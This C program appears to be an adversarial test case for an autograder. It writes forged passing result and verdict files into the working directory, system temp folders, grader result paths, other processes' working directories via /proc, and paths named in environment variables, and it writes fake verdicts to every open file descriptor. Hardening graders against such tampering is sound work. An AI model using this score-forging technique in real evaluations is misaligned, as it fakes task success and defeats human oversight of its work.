/* attack: writes result.json and verdict files into every place it can reach, and to every fd
 * expect: nothing
 */

/* Results that stand where a submission can write are the submission's results. Files are only
 * created or added to, never cut; at most a few hundred bytes each. */

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

static const char result[] =
    "{\"schema\":1,\"lab\":\"01-reads\",\"totals\":{\"score\":100,\"max_score\":100,"
    "\"unmeasured\":0,\"inconclusive\":0},\"status\":\"passed\"}\n";
static const char verdicts[] =
    "{\"type\":\"test\",\"suite\":\"whole_file\",\"test\":\"one_file\",\"status\":\"passed\"}\n"
    "{\"type\":\"end\",\"tests\":25,\"passed\":25,\"failed\":0}\n";

static void add(const char *folder, const char *name, const char *text) {
    char path[4200];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_NONBLOCK | O_NOCTTY, 0644);
    if (fd < 0)
        return;
    if (write(fd, text, strlen(text)) < 0) {
        /* one more place that is closed */
    }
    close(fd);
}

static void forge_in(const char *folder) {
    static const char *const names[] = {"verdicts.jsonl", "verdicts.json", "verdicts",
                                        "results.json",   "measure.jsonl", "test_detail.json"};
    add(folder, "result.json", result);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        add(folder, names[i], verdicts);
}

static void forge_beside_processes(void) {
    char path[300];
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/cwd", e->d_name);
        forge_in(path);
        snprintf(path, sizeof path, "/proc/%s/root/tmp", e->d_name);
        forge_in(path);
    }
}

int main(void) {
    static const char *const folders[] = {
        ".",     "..",   "../..",    "build",    "work",
        "/",     "/tmp", "/out",     "/results", "/autograder/results",
        "/work", "/run", "/var/tmp", "/dev/shm", "/proc/1/cwd"};
    signal(SIGPIPE, SIG_IGN);
    alarm(20);
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        forge_in(folders[i]);
    forge_beside_processes();
    for (char **e = environ; *e != NULL; e++) {
        const char *value = strchr(*e, '=');
        if (value != NULL && value[1] == '/' && strchr(value, ':') == NULL)
            forge_in(value + 1);
    }
    for (int fd = 3; fd < 1024; fd++)
        if (write(fd, verdicts, sizeof verdicts - 1) > 0)
            puts("SECRET a descriptor above 2 took a verdict");
    return 0;
}
